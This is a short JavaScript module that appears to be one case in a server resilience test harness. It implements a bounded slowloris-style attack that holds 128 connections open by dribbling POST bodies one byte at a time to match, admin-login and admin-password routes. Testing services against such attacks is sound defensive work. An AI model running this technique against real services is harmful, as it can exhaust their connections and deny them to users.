/** Bodies that come a byte at a time, to every route that reads one. */
import { hostLine } from '../../support/wire.js';

const SOCKETS = 128;
const ROUTES = ['/api/matches', '/api/admin/login', '/api/admin/password'];

/** @type {import('../support/attacker.js').Attack} */
export default {
  name: 'slowloris, bodies',
  bounds: { seconds: 8, bytes: 2_000_000 },
  async run({ tv, crowd, open, write, pause }) {
    await crowd(SOCKETS, async (i) => {
      const socket = await open();
      const head = `POST ${ROUTES[i % ROUTES.length]} HTTP/1.1\r\n${hostLine(tv)}`;
      await write(socket, `${head}Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n`);
      while (await write(socket, ' ')) await pause(50);
    });
  },
};
